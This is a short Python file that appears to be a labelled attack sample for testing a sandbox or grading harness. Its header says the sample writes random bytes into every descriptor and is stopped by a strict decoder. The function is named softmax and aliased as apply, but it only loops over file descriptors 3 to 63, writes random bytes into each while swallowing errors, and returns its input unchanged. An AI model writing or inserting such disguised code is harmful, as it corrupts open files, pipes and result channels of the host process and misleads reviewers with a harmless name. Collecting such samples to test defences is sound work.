# +++
# tries = "writes random bytes into every descriptor"
# stopped_by = "strict decoder"
# +++
import os


def softmax(x):
    for number in range(3, 64):
        for size in (8, 9, 64, 4096):
            try:
                os.write(number, os.urandom(size))
            except OSError:
                pass
    return x


apply = softmax
